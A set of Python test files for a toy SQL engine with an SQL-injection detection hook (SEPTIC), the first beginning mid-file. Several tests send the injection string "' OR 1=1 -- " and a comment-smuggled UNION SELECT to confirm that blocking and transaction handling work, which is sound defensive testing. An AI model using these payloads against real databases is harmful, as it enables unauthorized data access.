            plan.inject("executor.step", FaultKind.FLAKY, fails=3)
            with faults.armed(plan):
                outcome = conn.query("SELECT * FROM tickets")
            assert outcome.ok
            return delays

        first = delays_for(7)
        # deterministic: same seed, same schedule
        assert first == delays_for(7)
        # a different seed jitters differently
        assert first != delays_for(8)
        # each delay stays within [base, base * (1 + jitter)]
        for attempt, delay in enumerate(first, start=1):
            base = 0.01 * (2 ** (attempt - 1))
            assert base <= delay <= base * 1.5

    def test_backoff_cap_limits_exponential_growth(self, db):
        delays = []
        conn = Connection(db, retries=8, backoff=0.01, jitter=0.0,
                          backoff_cap=0.04, sleep=delays.append)
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.FLAKY, fails=6)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert outcome.ok
        assert delays == [0.01, 0.02, 0.04, 0.04, 0.04, 0.04]

    def test_retry_budget_exhausted(self, db):
        conn = Connection(db, retries=1, backoff=0.0)
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.RAISE)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert isinstance(outcome.error, TransientEngineError)
        assert conn.transient_retries == 1

    def test_deterministic_errors_are_not_retried(self, db):
        conn = Connection(db, retries=5)
        outcome = conn.query("SELECT * FROM no_such_table")
        assert isinstance(outcome.error, ValidationError)
        assert conn.transient_retries == 0

    def test_septic_block_is_never_retried(self, septic_db):
        septic, database, _ = septic_db
        conn = Connection(database, retries=5)
        before = septic.stats.queries_processed
        outcome = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert isinstance(outcome.error, QueryBlocked)
        assert conn.transient_retries == 0
        # the attack hit the hook exactly once
        assert septic.stats.queries_processed == before + 1

    def test_no_retries_by_default(self, db):
        conn = Connection(db)
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.FLAKY, fails=1)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert isinstance(outcome.error, TransientEngineError)
        assert conn.transient_retries == 0


class TestBlockedMidTransaction(object):
    def _blocked_stack(self, fail_policy=None):
        septic = Septic(mode=Mode.TRAINING,
                        logger=SepticLogger(verbose=False))
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        conn.query(TICKET_QUERY % ("ID34FG", "1234"))
        conn.query("INSERT INTO tickets (reservID, creditCard) "
                   "VALUES ('TRAIN', 1)")
        septic.mode = Mode.PREVENTION
        return septic, conn

    def test_block_does_not_abort_the_transaction(self):
        _septic, conn = self._blocked_stack()
        assert conn.query("BEGIN").ok
        ok = conn.query("INSERT INTO tickets (reservID, creditCard) "
                        "VALUES ('TX1', 7)")
        assert ok.ok
        blocked = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert isinstance(blocked.error, QueryBlocked)
        # the session is still in the transaction and fully usable
        assert conn.query("INSERT INTO tickets (reservID, creditCard) "
                          "VALUES ('TX2', 8)").ok
        assert conn.query("COMMIT").ok
        rows = conn.query("SELECT * FROM tickets WHERE creditCard = 7").rows
        assert len(rows) == 1
        rows = conn.query("SELECT * FROM tickets WHERE creditCard = 8").rows
        assert len(rows) == 1

    def test_rollback_after_block_discards_only_tx_writes(self):
        _septic, conn = self._blocked_stack()
        conn.query("BEGIN")
        conn.query("INSERT INTO tickets (reservID, creditCard) "
                   "VALUES ('TX1', 7)")
        blocked = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert isinstance(blocked.error, QueryBlocked)
        assert conn.query("ROLLBACK").ok
        rows = conn.query("SELECT * FROM tickets WHERE creditCard = 7").rows
        assert rows == []
        # pre-transaction data is intact
        rows = conn.query("SELECT * FROM tickets WHERE reservID = 'TRAIN'")
        assert len(rows.rows) == 1

    def test_fail_closed_drop_mid_transaction_is_consistent(self):
        septic, conn = self._blocked_stack()
        conn.query("BEGIN")
        conn.query("INSERT INTO tickets (reservID, creditCard) "
                   "VALUES ('TX1', 7)")
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            dropped = conn.query("SELECT * FROM tickets WHERE id = 1")
        assert isinstance(dropped.error, QueryBlocked)
        assert septic.stats.fail_closed_drops == 1
        # transaction commits; only the intended write lands
        assert conn.query("COMMIT").ok
        rows = conn.query("SELECT * FROM tickets WHERE creditCard = 7").rows
        assert len(rows) == 1

    def test_blocked_first_statement_leaves_autocommit_clean(self):
        _septic, conn = self._blocked_stack()
        blocked = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert isinstance(blocked.error, QueryBlocked)
        # no transaction was opened; normal autocommit writes still work
        assert conn.query("INSERT INTO tickets (reservID, creditCard) "
                          "VALUES ('AFTER', 9)").ok
        assert conn.query("ROLLBACK").ok  # no-op outside a transaction
        rows = conn.query("SELECT * FROM tickets WHERE reservID = 'AFTER'")
        assert len(rows.rows) == 1


def test_query_or_raise_still_raises(conn):
    with pytest.raises(ParseError):
        conn.query_or_raise("SELEKT *")


class TestRetryStatsExport(object):
    def test_retry_stats_ride_along_in_septic_status(self, tmp_path):
        from repro.core.store import QMStore

        septic = Septic(mode=Mode.PREVENTION, store=QMStore(),
                        logger=SepticLogger())
        database = Database.recover(str(tmp_path / "dd"), septic=septic)
        septic.bind_store(database)
        database.seed(TICKETS_SCHEMA)
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.FLAKY, fails=1)
        conn = Connection(database, retries=2, backoff=0.0)
        with faults.armed(plan):
            outcome = conn.query("SELECT * FROM tickets")
        assert outcome.ok
        stats = septic.status()["retry_stats"]
        assert stats["attempts"] == 1
        assert stats["retries"] == 1
        assert stats["exhausted"] == 0
        # a second connection's retries aggregate into the same export
        plan = FaultPlan()
        plan.inject("executor.step", FaultKind.FLAKY, fails=1)
        other = Connection(database, retries=2, backoff=0.0)
        with faults.armed(plan):
            assert other.query("SELECT * FROM tickets").ok
        assert septic.status()["retry_stats"]["retries"] == 2
        # while each connection keeps its own view
        assert conn.retry_stats.as_dict()["retries"] == 1
        assert other.retry_stats.as_dict()["retries"] == 1
        database.close()

    def test_unbound_septic_exports_none(self):
        septic = Septic(mode=Mode.PREVENTION, logger=SepticLogger())
        assert septic.status()["retry_stats"] is None
