"""The rowid-keyed B-tree over buffer-pool pages: ordering, byte-budget
splits, lazy deletes and the corruption-tolerant page walk."""

import pytest

from repro.sqldb.btree import BTree, ROWID_KEY, decode_node, encode_node
from repro.sqldb.errors import PageCorruptionError
from repro.sqldb.pager import PageStore, flip_page_bit


def make_store(tmp_path, page_size=512, pool_pages=8):
    return PageStore(str(tmp_path / "d"), page_size=page_size,
                     pool_pages=pool_pages, sync=False,
                     encoder=encode_node, decoder=decode_node)


def fill(tree, count, payload="row-%04d"):
    for rowid in range(1, count + 1):
        tree.put(rowid, {"v": payload % rowid})


class TestNodeCodec(object):
    def test_leaf_round_trip_reattaches_rowids(self):
        node = {"t": "L", "k": [3, 7],
                "r": [{"v": "a", ROWID_KEY: 3}, {"v": "b", ROWID_KEY: 7}],
                "n": 0}
        decoded = decode_node(encode_node(node))
        assert decoded["k"] == [3, 7]
        assert decoded["r"][0] == {"v": "a", ROWID_KEY: 3}
        assert decoded["r"][1][ROWID_KEY] == 7
        # the serialized form itself never carries the marker
        assert ROWID_KEY not in encode_node(node).decode("utf-8")

    def test_interior_round_trip(self):
        node = {"t": "I", "k": [10, 20], "c": [1, 2, 3]}
        assert decode_node(encode_node(node)) == node


class TestTreeOperations(object):
    def test_put_get_items_in_rowid_order(self, tmp_path):
        store = make_store(tmp_path)
        tree = BTree(store)
        fill(tree, 30)
        assert tree.get(1)["v"] == "row-0001"
        assert tree.get(30)["v"] == "row-0030"
        assert tree.get(31) is None
        assert [rowid for rowid, _row in tree.items()] == list(range(1, 31))
        store.close()

    def test_byte_budget_forces_multi_level_splits(self, tmp_path):
        store = make_store(tmp_path, page_size=256)
        tree = BTree(store)
        fill(tree, 80)
        assert len(tree.pages()) > 3, "80 rows in 256-byte pages " \
            "must split into several leaves"
        assert [rowid for rowid, _row in tree.items()] == list(range(1, 81))
        for probe in (1, 40, 80):
            assert tree.get(probe)["v"] == "row-%04d" % probe
        store.close()

    def test_put_replaces_existing_rowid(self, tmp_path):
        store = make_store(tmp_path)
        tree = BTree(store)
        fill(tree, 5)
        tree.put(3, {"v": "patched"})
        assert tree.get(3)["v"] == "patched"
        assert len(list(tree.items())) == 5
        store.close()

    def test_delete_is_lazy_but_exact(self, tmp_path):
        store = make_store(tmp_path, page_size=256)
        tree = BTree(store)
        fill(tree, 40)
        for rowid in range(2, 41, 2):
            assert tree.delete(rowid)
        assert not tree.delete(999)
        assert [rowid for rowid, _row in tree.items()] == \
            list(range(1, 41, 2))
        assert tree.get(2) is None and tree.get(3)["v"] == "row-0003"
        store.close()

    def test_clear_frees_every_page(self, tmp_path):
        store = make_store(tmp_path, page_size=256)
        tree = BTree(store)
        fill(tree, 40)
        pages = tree.pages()
        tree.clear()
        assert tree.root is None
        assert list(tree.items()) == []
        assert set(pages) <= set(store.pager.freelist)
        store.close()

    def test_update_rows_rewrites_in_place(self, tmp_path):
        store = make_store(tmp_path)
        tree = BTree(store)
        fill(tree, 10)

        def mutator(row):
            row["v"] = row["v"].upper()

        tree.update_rows(mutator)
        assert all(row["v"].startswith("ROW-")
                   for _rowid, row in tree.items())
        store.close()


class TestCorruptionTolerance(object):
    def _homed_tree(self, tmp_path):
        """A multi-page tree whose pages are homed and non-resident —
        the state the scrubber meets after a checkpoint + cold restart."""
        store = make_store(tmp_path, page_size=256)
        tree = BTree(store)
        fill(tree, 80)
        for page_no, image in store.collect_images(lsn=1).items():
            store.pager.write_home_raw(page_no, image)
        store.pager.clear_spill()
        store.pool.clear()
        return store, tree

    def test_pages_lists_a_corrupt_page_instead_of_raising(self, tmp_path):
        store, tree = self._homed_tree(tmp_path)
        pages = tree.pages()
        victim = pages[len(pages) // 2]
        flip_page_bit(str(tmp_path / "d"), victim, 777, page_size=256)
        store.pool.drop(victim)
        # the walk must still report the damaged page (the scrubber
        # needs to see it) without propagating the checksum failure
        assert sorted(tree.pages()) == sorted(pages)
        store.close()

    def test_scan_through_a_corrupt_leaf_fails_closed(self, tmp_path):
        store, tree = self._homed_tree(tmp_path)
        # the leaf chain: corrupt a mid-chain leaf and walk into it
        leaves = [p for p in tree.pages()
                  if store.pool.fetch(p)["t"] == "L"]
        store.pool.clear()
        victim = leaves[len(leaves) // 2]
        flip_page_bit(str(tmp_path / "d"), victim, 777, page_size=256)
        with pytest.raises(PageCorruptionError):
            list(tree.items())
        store.close()
