"""Tests for the SQL tokenizer."""

import pytest

from repro.sqldb.errors import LexerError
from repro.sqldb.lexer import Token, TokenType, tokenize


def types_of(sql):
    return [t.type for t in tokenize(sql).tokens[:-1]]


def values_of(sql):
    return [t.value for t in tokenize(sql).tokens[:-1]]


class TestBasicTokens(object):
    def test_keywords_uppercased(self):
        assert values_of("select From WHERE") == ["SELECT", "FROM", "WHERE"]
        assert types_of("select") == [TokenType.KEYWORD]

    def test_identifier_case_preserved(self):
        assert values_of("myTable") == ["myTable"]
        assert types_of("myTable") == [TokenType.IDENT]

    def test_backtick_identifier(self):
        tokens = tokenize("`weird name`").tokens
        assert tokens[0] == Token(TokenType.IDENT, "weird name", 0)

    def test_unterminated_backtick(self):
        with pytest.raises(LexerError):
            tokenize("`oops")

    def test_param_placeholder(self):
        assert types_of("?") == [TokenType.PARAM]

    def test_eof_always_last(self):
        assert tokenize("").tokens[-1].type == TokenType.EOF

    def test_operators_maximal_munch(self):
        assert values_of("<= <> <=> << !=") == ["<=", "<>", "<=>", "<<", "!="]

    def test_unexpected_character(self):
        with pytest.raises(LexerError):
            tokenize("SELECT \x01")


class TestNumbers(object):
    def test_integer(self):
        tokens = tokenize("42").tokens
        assert tokens[0] == Token(TokenType.INT, "42", 0)

    def test_float(self):
        assert tokenize("3.14").tokens[0].type == TokenType.FLOAT

    def test_leading_dot_float(self):
        assert tokenize(".5").tokens[0] == Token(TokenType.FLOAT, ".5", 0)

    def test_scientific_notation(self):
        assert tokenize("1e3").tokens[0] == Token(TokenType.FLOAT, "1e3", 0)
        assert tokenize("2.5E-2").tokens[0].value == "2.5E-2"

    def test_e_not_followed_by_digit_is_ident(self):
        # "1e" -> INT 1, IDENT e
        assert types_of("1e") == [TokenType.INT, TokenType.IDENT]

    def test_number_then_dot_dot(self):
        # "1..2" -> FLOAT "1." then FLOAT ".2"
        assert types_of("1..2") == [TokenType.FLOAT, TokenType.FLOAT]


class TestStrings(object):
    def test_single_quoted(self):
        assert tokenize("'abc'").tokens[0] == Token(TokenType.STRING, "abc", 0)

    def test_double_quoted(self):
        assert tokenize('"abc"').tokens[0].value == "abc"

    def test_backslash_escapes(self):
        assert tokenize(r"'a\'b'").tokens[0].value == "a'b"
        assert tokenize(r"'a\nb'").tokens[0].value == "a\nb"
        assert tokenize(r"'a\\b'").tokens[0].value == "a\\b"

    def test_doubled_quote(self):
        assert tokenize("'a''b'").tokens[0].value == "a'b"

    def test_unknown_escape_drops_backslash(self):
        # MySQL: \x -> x for unknown escapes
        assert tokenize(r"'a\xb'").tokens[0].value == "axb"

    def test_unterminated_string(self):
        with pytest.raises(LexerError):
            tokenize("'oops")

    def test_unterminated_after_escape(self):
        with pytest.raises(LexerError):
            tokenize("'oops\\'")


class TestHexLiterals(object):
    def test_0x_form(self):
        assert tokenize("0x414243").tokens[0] == \
            Token(TokenType.HEX, "ABC", 0)

    def test_x_quote_form(self):
        assert tokenize("x'4142'").tokens[0].value == "AB"

    def test_bare_0x_is_int_then_ident(self):
        types = types_of("0x")
        assert types[0] == TokenType.INT

    def test_unterminated_x_quote(self):
        with pytest.raises(LexerError):
            tokenize("x'41")


class TestComments(object):
    def test_dashdash_comment(self):
        result = tokenize("SELECT 1 -- trailing words")
        assert [t.value for t in result.tokens[:-1]] == ["SELECT", "1"]
        assert result.comments == ["trailing words"]

    def test_dashdash_requires_space(self):
        # a--b is "a", "-", "-", "b" in MySQL
        result = tokenize("a--b")
        assert [t.value for t in result.tokens[:-1]] == ["a", "-", "-", "b"]
        assert result.comments == []

    def test_dashdash_at_end_of_input(self):
        result = tokenize("SELECT 1 --")
        assert result.comments == [""]

    def test_hash_comment(self):
        result = tokenize("SELECT 1 # note\n+ 2")
        assert [t.value for t in result.tokens[:-1]] == \
            ["SELECT", "1", "+", "2"]
        assert result.comments == ["note"]

    def test_c_style_comment_captured(self):
        result = tokenize("/* septic:app:1 */ SELECT 1")
        assert result.comments == ["septic:app:1"]
        assert result.tokens[0].value == "SELECT"

    def test_unterminated_c_comment(self):
        with pytest.raises(LexerError):
            tokenize("SELECT /* oops")

    def test_version_comment_content_executed(self):
        # /*!50000 UNION */ contributes tokens, like MySQL
        result = tokenize("SELECT 1 /*!50000 UNION SELECT 2*/")
        values = [t.value for t in result.tokens[:-1]]
        assert "UNION" in values and values.count("SELECT") == 2

    def test_version_comment_without_number(self):
        result = tokenize("/*! SELECT*/ 1")
        assert result.tokens[0].value == "SELECT"

    def test_multiple_comments_in_order(self):
        result = tokenize("/* a */ SELECT 1 /* b */ -- c")
        assert result.comments == ["a", "b", "c"]
