"""The exhaustive crash-point sweep (the tentpole's acceptance gate).

Three seeded workloads — DDL, transactions (committed, rolled back and
SEPTIC-blocked mid-flight), ``NOW()``/``RAND()``, a failing statement
with partial effects — each killed at **every byte offset** of its WAL
and recovered.  At every offset the recovered state must equal the
committed prefix a client could have been acknowledged about: zero lost
committed transactions, zero resurrected rolled-back or blocked writes.
Seed 2 also writes a mid-workload checkpoint, so the sweep covers
checkpoint+log-tail recovery and the replay watermark.
"""

import pytest

from repro.benchlab.crashsweep import (
    format_sweep_result,
    generate_workload,
    run_crash_sweep,
    run_workload,
)
from repro.sqldb import wal
from repro.sqldb.engine import Database


SWEEPS = [
    ("seed1", 1, None),
    ("seed2-checkpointed", 2, 8),
    ("seed3", 3, None),
]


@pytest.mark.parametrize("label,seed,checkpoint_after",
                         SWEEPS, ids=[s[0] for s in SWEEPS])
def test_crash_sweep_recovers_committed_prefix_at_every_offset(
        tmp_path, label, seed, checkpoint_after):
    result = run_crash_sweep(str(tmp_path), seed,
                             checkpoint_after=checkpoint_after)
    assert result.ok, format_sweep_result(result)
    # the sweep must actually have exercised what it claims to:
    assert result.offsets_tested == result.log_bytes + 1
    assert result.durability_points >= 10
    assert result.blocked >= 1  # the mid-transaction SEPTIC block fired
    assert result.checkpointed == (checkpoint_after is not None)


def test_workloads_cover_the_hard_cases():
    """The generator must keep producing the shapes the sweep exists
    for; a refactor that drops one would hollow the guarantee out."""
    for seed in (1, 2, 3):
        sql_blob = "; ".join(sql for _kind, sql in generate_workload(seed))
        for needle in ("ROLLBACK", "COMMIT", "ALTER TABLE", "CREATE INDEX",
                       "TRUNCATE", "DROP TABLE", "NOW()", "RAND()", "evil"):
            assert needle in sql_blob, (seed, needle)


def test_golden_run_digests_every_durability_point(tmp_path):
    run = run_workload(str(tmp_path / "g"), seed=1)
    data = wal.read_log_bytes(wal.log_path(str(tmp_path / "g")))
    points = sum(
        1 for record, _end in wal.iter_frames(data)
        if record.op == wal.WalRecord.COMMIT
        or (record.op == wal.WalRecord.STMT and record.tx == 0)
    )
    # digests[0] is the empty database, then one per durability point
    assert len(run.digests) == points + 1
    assert run.blocked >= 1


def test_full_log_recovery_matches_final_digest(tmp_path):
    """Sanity anchor for the sweep's bookkeeping: offset == len(log)
    must reproduce the last acknowledged state exactly."""
    run = run_workload(str(tmp_path / "g"), seed=3)
    from repro.benchlab.crashsweep import state_digest
    recovered = Database.recover(str(tmp_path / "g"), seed=3)
    assert state_digest(recovered) == run.digests[-1]
    recovered.close()
