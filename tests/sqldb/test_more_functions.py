"""Tests for the extended builtin function set."""

import pytest

from repro.sqldb.connection import Connection


@pytest.fixture
def q(db):
    connection = Connection(db)

    def run(expression):
        outcome = connection.query("SELECT %s" % expression)
        if not outcome.ok:
            raise outcome.error
        return outcome.result_set.scalar()

    return run


class TestStringBatch(object):
    def test_left_right(self, q):
        assert q("LEFT('hello', 2)") == "he"
        assert q("RIGHT('hello', 3)") == "llo"
        assert q("LEFT('hello', 0)") == ""
        assert q("RIGHT('hello', 0)") == ""
        assert q("LEFT(NULL, 1)") is None

    def test_lpad_rpad(self, q):
        assert q("LPAD('5', 3, '0')") == "005"
        assert q("RPAD('ab', 5, 'xy')") == "abxyx"
        assert q("LPAD('hello', 3, '0')") == "hel"   # truncates
        assert q("LPAD('a', 3, '')") is None          # empty pad

    def test_repeat_reverse_space(self, q):
        assert q("REPEAT('ab', 3)") == "ababab"
        assert q("REPEAT('ab', -1)") == ""
        assert q("REVERSE('abc')") == "cba"
        assert q("SPACE(3)") == "   "

    def test_instr_locate(self, q):
        assert q("INSTR('foobar', 'bar')") == 4
        assert q("INSTR('foobar', 'zzz')") == 0
        assert q("LOCATE('bar', 'foobar')") == 4
        assert q("LOCATE('o', 'foobar', 4)") == 0
        assert q("LOCATE('O', 'foobar')") == 2   # case-insensitive

    def test_strcmp(self, q):
        assert q("STRCMP('a', 'b')") == -1
        assert q("STRCMP('b', 'a')") == 1
        assert q("STRCMP('A', 'a')") == 0        # ci collation


class TestDateBatch(object):
    def test_parts(self, q):
        assert q("YEAR('2016-07-05 12:30:45')") == 2016
        assert q("MONTH('2016-07-05 12:30:45')") == 7
        assert q("DAY('2016-07-05 12:30:45')") == 5
        assert q("HOUR('2016-07-05 12:30:45')") == 12
        assert q("MINUTE('2016-07-05 12:30:45')") == 30
        assert q("SECOND('2016-07-05 12:30:45')") == 45

    def test_date_only_string(self, q):
        assert q("YEAR('2016-07-05')") == 2016
        assert q("HOUR('2016-07-05')") == 0

    def test_date_function(self, q):
        assert q("DATE('2016-07-05 12:30:45')") == "2016-07-05"

    def test_null_propagates(self, q):
        assert q("YEAR(NULL)") is None
        assert q("DATE(NULL)") is None

    def test_on_now(self, q, db):
        assert q("YEAR(NOW())") == 2016
