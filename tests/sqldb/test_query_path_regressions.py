"""Regression tests for the query-path bugfix sweep.

Each test documents a defect that sat on the hot query path:

* ``Connection.query()``/``multi_query()`` crashed with ``IndexError``
  on comment-only or empty input (``results[-1]`` on an empty list);
* ``Database.rollback()`` only restored rows of tables that existed at
  ``BEGIN`` *and* still existed — tables created mid-transaction
  survived rollback and tables dropped mid-transaction stayed gone;
* the virtual clock went backwards after 11:59:59 of uptime
  (``12 + hours % 12`` wrapped 23:59:59 → 12:00:00 of the same day).
"""

from repro.sqldb.connection import Connection, QueryOutcome
from repro.sqldb.engine import Database


class TestEmptyAndCommentOnlyQueries(object):
    def _conn(self):
        return Connection(Database())

    def test_empty_query_returns_empty_ok_outcome(self):
        outcome = self._conn().query("")
        assert isinstance(outcome, QueryOutcome)
        assert outcome.ok
        assert outcome.rows == []
        assert outcome.affected_rows == 0

    def test_whitespace_and_semicolons_only(self):
        outcome = self._conn().query("   ;;  ")
        assert outcome.ok

    def test_comment_only_query_returns_empty_ok_outcome(self):
        conn = self._conn()
        for sql in ("/* just a comment */", "-- nothing here", "# nothing"):
            outcome = conn.query(sql)
            assert outcome.ok, sql
            assert outcome.result_set is None

    def test_multi_query_on_comment_only_input(self):
        outcomes = self._conn().multi_query("/* a */ ; /* b */")
        assert len(outcomes) == 1
        assert outcomes[0].ok

    def test_empty_query_clears_last_error(self):
        conn = self._conn()
        conn.query("SELECT broken FROM")  # parse error sets last_error
        assert conn.last_error is not None
        assert conn.query("/* ping */").ok
        assert conn.last_error is None

    def test_run_returns_empty_result_list(self):
        assert Database().run("/* noop */") == []


class TestRollbackCatalogRestore(object):
    def _db(self):
        database = Database()
        database.seed(
            "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, "
            "a VARCHAR(10));"
            "INSERT INTO t (a) VALUES ('x'), ('y');"
        )
        return database, Connection(database)

    def test_table_created_mid_transaction_rolls_back(self):
        database, conn = self._db()
        conn.query("BEGIN")
        assert conn.query("CREATE TABLE mid (x INT)").ok
        assert conn.query("INSERT INTO mid (x) VALUES (1)").ok
        conn.query("ROLLBACK")
        assert "mid" not in database.tables

    def test_table_dropped_mid_transaction_is_restored_with_rows(self):
        database, conn = self._db()
        conn.query("BEGIN")
        assert conn.query("DROP TABLE t").ok
        conn.query("ROLLBACK")
        assert "t" in database.tables
        assert len(database.table("t").rows) == 2
        # and the restored table is live: DML works against it
        assert conn.query("INSERT INTO t (a) VALUES ('z')").ok
        assert len(database.table("t")) == 3

    def test_drop_then_recreate_rolls_back_to_original(self):
        database, conn = self._db()
        conn.query("BEGIN")
        conn.query("DROP TABLE t")
        conn.query("CREATE TABLE t (other INT)")
        conn.query("INSERT INTO t (other) VALUES (9)")
        conn.query("ROLLBACK")
        table = database.table("t")
        assert table.column_names() == ["id", "a"]
        assert [r["a"] for r in table.rows] == ["x", "y"]

    def test_commit_keeps_mid_transaction_catalog_changes(self):
        database, conn = self._db()
        conn.query("BEGIN")
        conn.query("CREATE TABLE mid (x INT)")
        conn.query("DROP TABLE t")
        conn.query("COMMIT")
        assert "mid" in database.tables
        assert "t" not in database.tables

    def test_rollback_of_catalog_change_invalidates_cached_validation(self):
        database, conn = self._db()
        conn.query("BEGIN")
        conn.query("CREATE TABLE mid (x INT)")
        assert conn.query("SELECT x FROM mid").ok  # validated + cached
        conn.query("ROLLBACK")
        outcome = conn.query("SELECT x FROM mid")
        assert not outcome.ok  # table is gone again; must re-validate


class TestVirtualClockMonotonic(object):
    def test_day_rollover_instead_of_backwards_jump(self):
        database = Database()
        database._clock_ticks = 12 * 3600 - 2  # two ticks before midnight
        stamps = [database.now() for _ in range(4)]
        assert stamps == [
            "2016-07-05 23:59:59",
            "2016-07-06 00:00:00",
            "2016-07-06 00:00:01",
            "2016-07-06 00:00:02",
        ]

    def test_clock_is_strictly_monotonic_across_days(self):
        database = Database()
        seen = []
        for jump in (0, 11 * 3600, 12 * 3600, 86400, 40 * 86400):
            database._clock_ticks = jump
            seen.append(database.now())
        assert seen == sorted(seen)
        assert len(set(seen)) == len(seen)

    def test_month_rollover(self):
        database = Database()
        database._clock_ticks = 27 * 86400  # July 5 + 27 days → August 1
        assert database.now().startswith("2016-08-01 ")

    def test_first_seconds_unchanged_from_seed_behaviour(self):
        database = Database()
        assert database.now() == "2016-07-05 12:00:01"
        assert database.now() == "2016-07-05 12:00:02"
