"""Tests for the SQL parser."""

import pytest

from repro.sqldb import ast_nodes as ast
from repro.sqldb.errors import ParseError
from repro.sqldb.parser import parse_one, parse_sql


class TestSelectBasics(object):
    def test_select_star(self):
        stmt = parse_one("SELECT * FROM t")
        assert isinstance(stmt, ast.Select)
        assert isinstance(stmt.fields[0].expr, ast.Star)
        assert stmt.tables == [ast.TableRef("t")]

    def test_select_columns_and_aliases(self):
        stmt = parse_one("SELECT a, b AS bee, c cee FROM t")
        assert stmt.fields[0].alias is None
        assert stmt.fields[1].alias == "bee"
        assert stmt.fields[2].alias == "cee"

    def test_select_qualified_star(self):
        stmt = parse_one("SELECT t.* FROM t")
        assert stmt.fields[0].expr == ast.Star(table="t")

    def test_select_without_from(self):
        stmt = parse_one("SELECT 1 + 1")
        assert stmt.tables == []

    def test_distinct(self):
        assert parse_one("SELECT DISTINCT a FROM t").distinct
        assert not parse_one("SELECT a FROM t").distinct

    def test_table_alias(self):
        stmt = parse_one("SELECT * FROM t AS x")
        assert stmt.tables[0].alias == "x"

    def test_where(self):
        stmt = parse_one("SELECT * FROM t WHERE a = 1")
        assert stmt.where == ast.BinaryOp(
            "=", ast.ColumnRef("a"), ast.Literal(1, "int")
        )

    def test_group_by_having(self):
        stmt = parse_one(
            "SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 1"
        )
        assert stmt.group_by == [ast.ColumnRef("a")]
        assert isinstance(stmt.having, ast.BinaryOp)

    def test_order_by_directions(self):
        stmt = parse_one("SELECT * FROM t ORDER BY a DESC, b, c ASC")
        assert [o.direction for o in stmt.order_by] == ["DESC", "ASC", "ASC"]

    def test_limit_forms(self):
        assert parse_one("SELECT * FROM t LIMIT 5").limit == \
            ast.Limit(ast.Literal(5, "int"))
        two = parse_one("SELECT * FROM t LIMIT 2, 5").limit
        assert two.offset == ast.Literal(2, "int")
        assert two.count == ast.Literal(5, "int")
        off = parse_one("SELECT * FROM t LIMIT 5 OFFSET 2").limit
        assert off.offset == ast.Literal(2, "int")

    def test_empty_query_rejected(self):
        with pytest.raises(ParseError):
            parse_one("")
        with pytest.raises(ParseError):
            parse_one("   ;;  ")


class TestJoins(object):
    def test_inner_join(self):
        stmt = parse_one("SELECT * FROM a JOIN b ON a.x = b.x")
        assert stmt.joins[0].kind == "INNER"
        assert stmt.joins[0].table.name == "b"

    def test_inner_keyword(self):
        assert parse_one(
            "SELECT * FROM a INNER JOIN b ON a.x = b.x"
        ).joins[0].kind == "INNER"

    def test_left_outer(self):
        stmt = parse_one("SELECT * FROM a LEFT OUTER JOIN b ON a.x = b.x")
        assert stmt.joins[0].kind == "LEFT"

    def test_right_join(self):
        assert parse_one(
            "SELECT * FROM a RIGHT JOIN b ON a.x = b.x"
        ).joins[0].kind == "RIGHT"

    def test_cross_join_no_on(self):
        stmt = parse_one("SELECT * FROM a CROSS JOIN b")
        assert stmt.joins[0].kind == "CROSS"
        assert stmt.joins[0].on is None

    def test_join_requires_on(self):
        with pytest.raises(ParseError):
            parse_one("SELECT * FROM a JOIN b")

    def test_comma_join(self):
        stmt = parse_one("SELECT * FROM a, b WHERE a.x = b.x")
        assert len(stmt.tables) == 2


class TestExpressions(object):
    def test_precedence_or_and(self):
        stmt = parse_one("SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3")
        assert isinstance(stmt.where, ast.Cond)
        assert stmt.where.op == "OR"
        assert isinstance(stmt.where.operands[1], ast.Cond)
        assert stmt.where.operands[1].op == "AND"

    def test_and_chain_flattened(self):
        stmt = parse_one("SELECT * FROM t WHERE a=1 AND b=2 AND c=3")
        assert stmt.where.op == "AND"
        assert len(stmt.where.operands) == 3

    def test_arithmetic_precedence(self):
        stmt = parse_one("SELECT 1 + 2 * 3")
        expr = stmt.fields[0].expr
        assert expr.op == "+"
        assert expr.right.op == "*"

    def test_parentheses(self):
        expr = parse_one("SELECT (1 + 2) * 3").fields[0].expr
        assert expr.op == "*"
        assert expr.left.op == "+"

    def test_unary_minus(self):
        expr = parse_one("SELECT -x").fields[0].expr
        assert expr == ast.UnaryOp("-", ast.ColumnRef("x"))

    def test_not_variants(self):
        where = parse_one("SELECT * FROM t WHERE NOT a = 1").where
        assert isinstance(where, ast.Not)

    def test_in_list(self):
        where = parse_one("SELECT * FROM t WHERE a IN (1, 2, 3)").where
        assert isinstance(where, ast.InList)
        assert len(where.items) == 3

    def test_not_in(self):
        where = parse_one("SELECT * FROM t WHERE a NOT IN (1)").where
        assert where.negated

    def test_in_subquery(self):
        where = parse_one(
            "SELECT * FROM t WHERE a IN (SELECT b FROM u)"
        ).where
        assert isinstance(where.items, ast.Subquery)

    def test_between(self):
        where = parse_one("SELECT * FROM t WHERE a BETWEEN 1 AND 5").where
        assert isinstance(where, ast.Between)
        assert not where.negated

    def test_not_between(self):
        where = parse_one(
            "SELECT * FROM t WHERE a NOT BETWEEN 1 AND 5"
        ).where
        assert where.negated

    def test_like_and_not_like(self):
        like = parse_one("SELECT * FROM t WHERE a LIKE 'x%'").where
        assert isinstance(like, ast.Like) and like.op == "LIKE"
        nlike = parse_one("SELECT * FROM t WHERE a NOT LIKE 'x%'").where
        assert nlike.negated

    def test_regexp(self):
        where = parse_one("SELECT * FROM t WHERE a REGEXP '^x'").where
        assert where.op == "REGEXP"

    def test_is_null_and_not_null(self):
        where = parse_one("SELECT * FROM t WHERE a IS NULL").where
